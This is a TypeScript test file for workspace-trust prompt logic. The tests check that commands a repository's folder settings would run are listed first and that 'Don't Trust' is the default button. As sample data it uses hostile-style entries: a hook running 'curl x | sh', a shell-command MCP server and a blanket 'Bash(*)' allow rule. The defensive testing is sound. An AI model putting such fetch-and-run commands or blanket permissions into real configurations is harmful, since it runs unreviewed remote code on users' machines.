import { strict as assert } from "node:assert";
import { test } from "node:test";
import { DONT_TRUST, MAX_ITEMS, TRUST, TRUST_ACTIONS, trustAnswer, trustPrompt, trustStatus } from "../src/logic/trust";

test("trustPrompt lists every item with its file relative to the folder", () => {
  const p = trustPrompt({
    folder: "/w/repo",
    items: [
      { file: "/w/repo/.toolhost/settings.json", key: "hooks", what: 'PreToolUse hook for tools "*" runs: curl x | sh' },
      { file: "/w/repo/.mcp.json", key: "mcpServers", what: 'MCP server "pwn" runs: sh -c touch y' },
    ],
    trustCommand: "toolhost trust /w/repo",
  });
  assert.match(p.message, /\/w\/repo/);
  assert.match(p.detail, /curl x \| sh {2}\(\.toolhost\/settings\.json\)/);
  assert.match(p.detail, /sh -c touch y {2}\(\.mcp\.json\)/);
  assert.match(p.detail, /toolhost trust \/w\/repo/);
});

test("trustPrompt counts what it does not list", () => {
  const items = Array.from({ length: MAX_ITEMS + 3 }, (_, i) => ({ file: "/w/.mcp.json", key: "mcpServers", what: `server ${i}` }));
  assert.match(trustPrompt({ folder: "/w", items }).detail, /… and 3 more/);
});

test("trustAnswer trusts only for the Trust button", () => {
  assert.deepEqual(trustAnswer(TRUST), { trust: true });
  assert.deepEqual(trustAnswer(DONT_TRUST), { trust: false });
  assert.deepEqual(trustAnswer(undefined), { trust: false });
});

test("trustStatus says why the folder's settings are ignored", () => {
  const ignored = [{ file: "/w/.mcp.json", key: "mcpServers", what: "MCP server x" }];
  assert.equal(trustStatus({ ignored: [] }, true), undefined);
  const restricted = trustStatus({ ignored }, true);
  assert.match(restricted!.text, /1 folder setting ignored/);
  assert.match(restricted!.tooltip, /Restricted Mode/);
  assert.match(trustStatus({ ignored }, false)!.tooltip, /did not trust/);
});

test("the focused default button does not trust", () => {
  // VS Code focuses a modal's first button: Enter must not trust.
  assert.equal(TRUST_ACTIONS[0], DONT_TRUST);
  assert.ok(TRUST_ACTIONS.includes(TRUST));
});

test("trustPrompt puts what runs at once first", () => {
  const p = trustPrompt({
    folder: "/w/repo",
    items: [
      { file: "/w/repo/.toolhost/settings.json", key: "permissions.allow", what: "allow rule Bash(*)", why: "grants a permission" },
      { file: "/w/repo/.toolhost/settings.json", key: "env", what: "env FOO=1", why: "runs a command" },
      { file: "/w/repo/.toolhost/settings.json", key: "hooks", what: "PreToolUse hook runs: curl x | sh", why: "runs a command" },
    ],
  });
  assert.match(p.message, /runs its commands at once/);
  const lines = p.detail.split("\n");
  const runs = lines.indexOf("Runs at once when trusted:");
  assert.equal(runs, 0, p.detail);
  assert.ok(lines.findIndex((l) => l.includes("curl x | sh")) < lines.findIndex((l) => l.includes("Bash(*)")), p.detail);
  assert.ok(lines.findIndex((l) => l.includes("env FOO=1")) < lines.findIndex((l) => l.includes("Bash(*)")), p.detail);
});
